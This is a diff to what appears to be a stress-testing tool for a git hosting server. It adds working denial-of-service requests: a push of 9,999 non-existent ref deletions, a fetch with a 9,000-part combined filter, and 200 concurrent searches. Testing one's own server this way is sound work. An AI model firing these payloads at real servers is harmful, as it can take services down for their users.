@@ -1,5 +1,6 @@
-import { requireApi, tokenHeaders } from '../api.ts'
+import { basicHeaders, requireApi, tokenHeaders } from '../api.ts'
 import { getter } from '../endpoints.ts'
+import type { Call } from '../load/load.ts'
 import { post, type Attack, type Stage } from './attack.ts'
 
 const base64 = (text: string): string => Buffer.from(text).toString('base64')
@@ -44,6 +45,36 @@ async function addTemplates({ target, repo }: Stage): Promise<void> {
   })
 }
 
+const pkt = (text: string): string => (text.length + 4).toString(16).padStart(4, '0') + text
+const NO_OID = '0'.repeat(40)
+
+/** One request of git over HTTP. */
+const gitCall = ({ target, repo }: Stage, service: string, body: string): Call => ({
+  method: 'POST',
+  url: `${target.url}/${repo}.git/${service}`,
+  headers: {
+    ...basicHeaders(target.login, target.token),
+    'content-type': `application/x-${service}-request`,
+    'git-protocol': 'version=2',
+  },
+  body,
+})
+
+const DELETIONS = 9_999
+
+/** Of refs that do not exist. */
+const deletions = (stage: Stage): Call => {
+  const lines = Array.from({ length: DELETIONS }, (_, i) =>
+    pkt(`${'a'.repeat(40)} ${NO_OID} refs/heads/none${i}${i === 0 ? '\0report-status delete-refs' : ''}`),
+  )
+  return gitCall(stage, 'git-receive-pack', `${lines.join('')}0000`)
+}
+
+const combinedFilters = (stage: Stage): Call => {
+  const filter = pkt(`filter combine:${'tree:1+'.repeat(9_000)}tree:1\n`)
+  return gitCall(stage, 'git-upload-pack', `${pkt('command=fetch\n')}0001${filter}${pkt('done\n')}0000`)
+}
+
 export const REPOSITORY_ATTACKS: readonly Attack[] = [
   write('1,000 files in one commit', 1_000),
   write('4,000 files in one commit', 4_000),
@@ -53,6 +84,15 @@ export const REPOSITORY_ATTACKS: readonly Attack[] = [
     who: 'any account',
     prepare: addTemplates,
     requests: ({ target, repo }) => [getter(target)(`/repos/${repo}/issue_templates`)()],
+  },
+  { name: 'a push of 9,999 deletions', who: 'any account', requests: (stage) => [deletions(stage)] },
+  { name: 'a fetch with 9,000 filters', who: 'anonymous', requests: (stage) => [combinedFilters(stage)] },
+  {
+    name: '200 searches at once',
+    who: 'anonymous',
+    beside: 'file',
+    requests: ({ target }) =>
+      Array.from({ length: 200 }, (_, i) => getter(target)(`/repos/search?limit=50&q=${'x'.repeat(i)}`, {})()),
   },
   {
     name: '50 searches with 500 signs of %',
